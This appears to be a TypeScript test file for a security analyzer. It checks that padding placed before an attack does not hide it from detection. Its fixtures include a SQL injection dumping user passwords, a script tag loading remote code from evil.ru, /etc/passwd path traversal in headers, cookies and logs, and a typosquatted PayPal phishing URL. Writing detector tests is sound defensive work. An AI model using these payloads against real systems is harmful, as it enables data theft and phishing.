import { describe, expect, test } from 'bun:test';
import { analyze, type InputType } from '../../src/analysis/analysis.ts';

const KIB = 1024;
const SQL = "' UNION SELECT user,pass FROM users--";
const SHELL_SCRIPT =
  '<script>document.write(unescape("%3Cscript src=%22http://evil.ru/x.js%22%3E%3C/script%3E"))</script>';

/** An attack, and padding before it that does not change its meaning. */
const CASES: readonly (readonly [InputType, before: string, padding: string, attack: string])[] = [
  ['request', 'GET /?a=', 'a', `&id=1${SQL}`],
  ['request', 'GET /?a=', '%2561', `&id=1${SQL}`],
  ['request', 'GET /?', 'b=1&', `id=1${encodeURIComponent(SQL)} HTTP/1.1\r\nHost: a\r\n\r\n`],
  ['request', 'POST / HTTP/1.1\r\nHost: a\r\n\r\na=1', '&b=%2531', `&id=1${SQL}`],
  ['request', 'GET / HTTP/1.1\r\n', 'X-A: b\r\n', 'X-B: ../../../../etc/passwd\r\n\r\n'],
  ['request', '{"a":[', '"b",', `"1${SQL}"]}`],
  ['request', 'GET / HTTP/1.1\r\nCookie: ', 'a=b;', 'c=../../../../etc/passwd\r\n\r\n'],
  [
    'log',
    '',
    '\n',
    '1.2.3.4 - - [01/Jan/2026:00:00:00 +0000] "GET /?id=1%20union%20select%201,2 HTTP/1.1" 200 5',
  ],
  [
    'log',
    '',
    'ordinary line\n',
    '1.2.3.4 - - [01/Jan/2026:00:00:00 +0000] "GET /?f=../../../etc/passwd HTTP/1.1" 200 5',
  ],
  ['code', '<html>', '<script>var a=1;</script>', SHELL_SCRIPT],
  ['url', '', 'https://www.google.com/\n', 'http://paypa1-secure-login.xyz/webscr?cmd=login'],
];

describe('content before an attack does not hide it', () => {
  test.each(CASES)('%s %p with %p', (inputType, before, padding, attack) => {
    for (const kib of [0, 1, 9, 60]) {
      const content = before + padding.repeat((kib * KIB) / padding.length) + attack;
      expect([kib, analyze({ inputType, content }).verdict]).toEqual([kib, 'malicious']);
    }
  });

  test('nor do good addresses next to a bad one', () => {
    const alone = analyze({ inputType: 'url', content: 'http://paypa1-secure-login.xyz/' });
    const beside = analyze({
      inputType: 'url',
      content: 'https://www.google.com/ http://paypa1-secure-login.xyz/ https://www.paypal.com/',
    });
    expect(beside.score).toBe(alone.score);
  });
});
